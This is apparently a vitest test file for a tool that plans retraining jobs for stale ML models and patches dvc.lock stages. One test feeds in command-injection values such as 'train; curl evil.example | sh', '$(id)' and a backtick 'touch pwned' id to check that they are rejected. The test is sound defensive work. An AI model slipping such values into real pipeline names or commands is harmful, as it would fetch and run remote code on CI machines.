// The pure planning: stale models become matrix jobs with a reason, nodes are re-run after what they need, long plans
// split into valid matrices, and names that would reach CI commands are refused unless they are plain.
import { describe, expect, it } from 'vitest';
import { schemaProblems } from '../src/core/input/schema.ts';
import { buildPlan, type DownstreamRows, dependencyOrder, MATRIX_LIMIT, type PlanEntry } from '../src/core/plan/plan.ts';
import { retrainChanges } from '../src/core/plan/retrained.ts';
import type { Manifests, Model, Workflow } from '../src/core/types.ts';

const model = (id: string, extra: Partial<Model> = {}): Model => ({
  id,
  version: '1.0',
  description: id,
  datasets: { ds: '1' },
  metrics: `results/${id}.json`,
  gate: [],
  on_missing_baseline: 'skip',
  file: `lineage/models/${id}.yaml`,
  ...extra,
});
const lines = new Map([
  [
    'lineage/models/bad.yaml',
    (p: readonly (string | number)[]) => (p[0] === 'dvc' && p[1] === 'stage' ? 4 : p[0] === 'id' ? 2 : undefined),
  ],
]);
const rowsFor = (ids: string[], stale = true): DownstreamRows => ({
  models: ids.map((id) => ({ id, version: '1.0', stale })),
  trainedOn: ids.flatMap((id) => [
    { model_id: id, dataset_id: 'ds', trained_on: '1', current: '2' },
    { model_id: id, dataset_id: 'other', trained_on: '7', current: '7' },
  ]),
  nodes: [],
});

describe('buildPlan', () => {
  it('gives each stale model a one-sentence reason naming only the datasets that moved', () => {
    const m: Manifests = { datasets: [], models: [model('a')], workflows: [] };
    const r = buildPlan(m, rowsFor(['a']), new Map());
    expect(r.ok && r.plan.include[0]).toEqual({
      model: 'a',
      version: '1.0',
      reason: 'trained on ds@1, now at 2',
      datasets: [
        { id: 'ds', trained_on: '1', current: '2' },
        { id: 'other', trained_on: '7', current: '7' },
      ],
      stage: null,
      pipeline: null,
      metrics: 'results/a.json',
      file: 'lineage/models/a.yaml',
      workflows: [],
    });
    const two = buildPlan(
      m,
      {
        ...rowsFor(['a']),
        trainedOn: [
          { model_id: 'a', dataset_id: 'x', trained_on: '1', current: '2' },
          { model_id: 'a', dataset_id: 'y', trained_on: '3', current: '4' },
        ],
      },
      new Map(),
    );
    expect(two.ok && two.plan.include[0]!.reason).toBe('trained on x@1, now at 2, and on y@3, now at 4');
    // DVC can find a model stale whose datasets look current: a stage of its pipeline ran on an older input.
    const why = 'stage featurize ran on ds@1, which is now 2';
    const dvc = buildPlan(
      { datasets: [], models: [model('a', { stale_reasons: [why] })], workflows: [] },
      { ...rowsFor(['a']), trainedOn: [] },
      new Map(),
    );
    expect(dvc.ok && dvc.plan.include[0]!.reason).toBe(why);
  });

  it('lists models already trained on the current versions for impact, but plans no job for them', () => {
    const r = buildPlan({ datasets: [], models: [model('a')], workflows: [] }, rowsFor(['a'], false), new Map());
    expect(r.ok && r.plan).toEqual({ include: [], rescore: [], count: 0, truncated: false, chunks: [] });
    expect(r.ok && r.models.map((x) => [x.model, x.retrain, x.reason])).toEqual([['a', false, null]]);
    expect(schemaProblems('plan', r.ok && r.plan, 'plan')).toEqual([]);
  });

  it(`splits more than ${MATRIX_LIMIT} jobs into chunks that are each a valid matrix`, () => {
    const ids = Array.from({ length: 600 }, (_, i) => `m${String(i).padStart(3, '0')}`);
    const r = buildPlan({ datasets: [], models: ids.map((id) => model(id)), workflows: [] }, rowsFor([...ids].reverse()), new Map());
    if (!r.ok) throw new Error('plan failed');
    expect(r.plan.count).toBe(600);
    expect(r.plan.truncated).toBe(true);
    expect(r.plan.include).toHaveLength(MATRIX_LIMIT);
    expect(r.plan.chunks.map((c) => c.include.length)).toEqual([256, 256, 88]);
    expect(r.plan.chunks.flatMap((c) => c.include.map((e) => e.model))).toEqual(ids);
    expect(r.plan.include).toEqual(r.plan.chunks[0]!.include);
    expect(schemaProblems('plan', r.plan, 'plan')).toEqual([]);
  });

  it('refuses a stage or model id that is not a plain identifier, naming the file and line', () => {
    // A forged stage is one dvc.yaml edit away: "train; curl evil.example | sh" must never become a job's command.
    for (const stage of ['train; curl evil.example | sh', '$(id)', 'train\nnext', '../train', 'sub/dvc.yaml:train', '-rf', 'a@b@c']) {
      const r = buildPlan(
        { datasets: [], models: [model('bad', { dvc: { lock: 'dvc.lock', stage, out: 'm.pkl' } })], workflows: [] },
        rowsFor(['bad']),
        lines,
      );
      expect(r.ok, stage).toBe(false);
      if (!r.ok) expect(r.problems).toMatchObject([{ file: 'lineage/models/bad.yaml', line: 4, field: 'dvc.stage' }]);
    }
    for (const stage of ['train', 'train_model@toxicity', 'train@0', 'evaluate.v2@us-east']) {
      const dvc = { lock: 'pipelines/tox/dvc.lock', stage, out: 'm.pkl' };
      const r = buildPlan({ datasets: [], models: [model('bad', { dvc })], workflows: [] }, rowsFor(['bad']), lines);
      expect(r.ok && [r.plan.include[0]!.stage, r.plan.include[0]!.pipeline], stage).toEqual([stage, 'pipelines/tox/dvc.yaml']);
    }
    const id = 'x`touch pwned`';
    const r = buildPlan({ datasets: [], models: [model(id, { file: 'lineage/models/bad.yaml' })], workflows: [] }, rowsFor([id]), lines);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problems).toMatchObject([{ file: 'lineage/models/bad.yaml', line: 2, field: 'id' }]);
  });
});

describe('dependencyOrder', () => {
  it('puts every node after the nodes it needs, keeping the manifest order otherwise', () => {
    const n = (id: string, needs: string[] = []) => ({ id, model: 'm', dataset: 'd', weight: 1, metric: 'x', needs });
    const w: Workflow = { id: 'w', version: '1', threshold: 0, nodes: [n('report', ['b', 'a']), n('b', ['a']), n('a'), n('c')], file: '' };
    const order = dependencyOrder(w);
    expect([...order.entries()].sort((x, y) => x[1] - y[1]).map(([id]) => id)).toEqual(['a', 'b', 'report', 'c']);
  });
});

describe('retrainChanges', () => {
  const entry = (model: string, stage: string | null, metrics: string): PlanEntry => ({
    model,
    version: 'abc',
    reason: 'trained on ds@1, now at 2',
    datasets: [],
    stage,
    pipeline: stage ? 'ml/dvc.yaml' : null,
    metrics,
    file: `lineage/models/${model}.yaml`,
    workflows: [],
  });
  const lock = (train: string, evaluate: string, prepare = 'p1') =>
    `schema: '2.0'\nstages:\n  prepare:\n    cmd: python prepare.py\n    outs:\n    - path: data/prepared\n      md5: ${prepare}\n  train:\n    cmd: python train.py\n    outs:\n    - path: model.pkl\n      md5: ${train}\n  train_tox:\n    cmd: python train.py tox\n    outs:\n    - path: tox.pkl\n      md5: t1\n  evaluate:\n    cmd: python evaluate.py\n    outs:\n    - path: eval/metrics.json\n      md5: ${evaluate}\n`;

  it("splices the model's stage and the stage writing its metrics into the repository's dvc.lock, nothing else", () => {
    const r = retrainChanges(
      [entry('tox', 'train', 'ml/eval/metrics.json')],
      [
        {
          name: 'retrained-tox',
          model: 'tox',
          files: new Map([
            ['ml/dvc.lock', lock('m2', 'e2', 'p-changed-by-the-job')],
            ['ml/eval/metrics.json', '{"auc": 0.9}\n'],
            ['lineage/models/tox.yaml', 'id: tox\n'],
          ]),
        },
      ],
      (p) => (p === 'ml/dvc.lock' ? lock('m1', 'e1') : null),
    );
    expect(r.problems).toEqual([]);
    expect(r.ignored).toEqual(['retrained-tox: lineage/models/tox.yaml is not a file retraining tox may change']);
    expect(r.writes.map((x) => x.path)).toEqual(['ml/dvc.lock', 'ml/eval/metrics.json']);
    const written = r.writes[0]!.text;
    expect(written).toBe(lock('m2', 'e2'));
    expect(r.applied).toEqual([
      'retrained-tox: ml/dvc.lock stage train',
      'retrained-tox: ml/dvc.lock stage evaluate',
      'retrained-tox: ml/eval/metrics.json',
    ]);
  });

  it('lands two models of one pipeline retrained in two jobs', () => {
    const both = lock('m2', 'e1').replace('md5: t1', 'md5: t2');
    const r = retrainChanges(
      [entry('a', 'train', 'ml/a.json'), entry('b', 'train_tox', 'ml/b.json')],
      [
        { name: 'retrained-a', model: 'a', files: new Map([['ml/dvc.lock', lock('m2', 'e1')]]) },
        { name: 'retrained-b', model: 'b', files: new Map([['ml/dvc.lock', lock('m1', 'e1').replace('md5: t1', 'md5: t2')]]) },
      ],
      () => lock('m1', 'e1'),
    );
    expect(r.writes).toEqual([{ path: 'ml/dvc.lock', text: both }]);
  });

  it('takes a manifest only from a model without DVC, and names a stage the job lock lacks', () => {
    const plain = retrainChanges(
      [entry('m', null, 'results/m.json')],
      [{ name: 'm', model: 'm', files: new Map([['lineage/models/m.yaml', 'x']]) }],
      () => null,
    );
    expect(plain.writes).toEqual([{ path: 'lineage/models/m.yaml', text: 'x' }]);
    const missing = retrainChanges(
      [entry('tox', 'train', 'ml/eval/metrics.json')],
      [{ name: 'tox', model: 'tox', files: new Map([['ml/dvc.lock', "schema: '2.0'\nstages: {}\n"]]) }],
      () => lock('m1', 'e1'),
    );
    expect(missing.problems).toEqual(['tox: ml/dvc.lock has no stage train']);
  });
});
